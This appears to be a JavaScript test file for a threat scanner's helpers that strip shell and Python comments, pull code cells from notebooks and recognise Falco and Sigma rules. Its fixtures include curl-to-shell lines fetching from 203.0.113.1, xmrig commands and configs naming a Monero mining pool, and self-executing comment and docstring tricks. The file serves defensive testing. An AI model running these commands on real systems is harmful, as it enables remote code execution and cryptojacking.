import assert from 'node:assert/strict';
import { test } from 'node:test';
import { isDetectionRuleText, notebookCode, pythonWithoutCommentsAndDocstrings, shellWithoutComments } from '../../src/threat/precision.js';

test('shell comments go, quoted and here-document text stays', () => {
  const script = [
    '#!/bin/bash',
    '# pool.supportxmr.com in a comment',
    'echo "# not a comment: pool-a" # comment: pool-b',
    "echo 'a # b' x#y ${#arr[@]}",
    'cat > /tmp/c <<EOF',
    '# written to a file: pool-c',
    'EOF',
    'run # pool-d',
  ].join('\n');
  const code = shellWithoutComments(script);
  assert.match(code, /^#!\/bin\/bash/);
  assert.doesNotMatch(code, /pool\.supportxmr\.com|pool-b|pool-d/);
  for (const kept of ['# not a comment: pool-a', "'a # b'", 'x#y', '${#arr[@]}', '# written to a file: pool-c']) assert.ok(code.includes(kept), kept);
});

test('a multi-line quoted string is not cut at a # line inside it', () => {
  const code = shellWithoutComments('sh -c "\n# inside quotes pool-e\n"\n# outside pool-f');
  assert.ok(code.includes('pool-e'));
  assert.ok(!code.includes('pool-f'));
});

test('a script that reads itself back keeps its comments (they may run)', () => {
  const script = '#X curl http://203.0.113.1/m | sh\nsed -n "s/^#X //p" "$0" | sh';
  assert.equal(shellWithoutComments(script), script);
});

test('Python docstrings and comments go, string arguments stay', () => {
  const source = [
    '"""Module doc: pool.supportxmr.com"""',
    'import os',
    'def f():',
    "    '''function doc: pool-g'''",
    '    os.system("""xmrig -o pool-h""")  # comment pool-i',
    '    x = "pool-j"',
    '    r"raw standalone pool-k"',
  ].join('\n');
  const code = pythonWithoutCommentsAndDocstrings(source);
  for (const gone of ['pool.supportxmr.com', 'pool-g', 'pool-i', 'pool-k']) assert.ok(!code.includes(gone), gone);
  for (const kept of ['xmrig -o pool-h', 'pool-j', 'os.system']) assert.ok(code.includes(kept), kept);
});

test('Python that runs its own docstring keeps it', () => {
  const source = '"""import os; os.system("xmrig")"""\nexec(__doc__)';
  assert.equal(pythonWithoutCommentsAndDocstrings(source), source);
});

test('notebook code is its code cells only', () => {
  const notebook = JSON.stringify({
    nbformat: 4,
    cells: [
      { cell_type: 'markdown', source: ['pool.supportxmr.com'] },
      { cell_type: 'code', source: ['!curl -s http://203.0.113.1/x | sh\n', 'print(1)'] },
      { cell_type: 'raw', source: 'pool-raw' },
    ],
  });
  const code = notebookCode(notebook);
  assert.ok(code?.includes('!curl -s http://203.0.113.1/x | sh'));
  assert.ok(!code?.includes('pool.supportxmr.com'));
  assert.ok(!code?.includes('pool-raw'));
  assert.equal(notebookCode('{"pools": []}'), undefined);
});

test('Falco and Sigma rule files are detection rules; a miner config or a script is not', () => {
  assert.ok(isDetectionRuleText('- list: miner_domains\n  items: [pool.supportxmr.com]\n- rule: r\n  condition: outbound\n  output: x\n  priority: WARNING\n'));
  assert.ok(isDetectionRuleText('title: miner\nlogsource: { product: linux }\ndetection: { sel: { CommandLine|contains: stratum+tcp } , condition: sel }\n'));
  assert.ok(!isDetectionRuleText('{"pools": [{"url": "pool.supportxmr.com:443", "user": "x"}]}'));
  // One element that is not a detection rule makes the whole file count as something else.
  assert.ok(!isDetectionRuleText('- rule: r\n  condition: x\n- command: [xmrig, -o, pool.supportxmr.com:443]\n'));
});
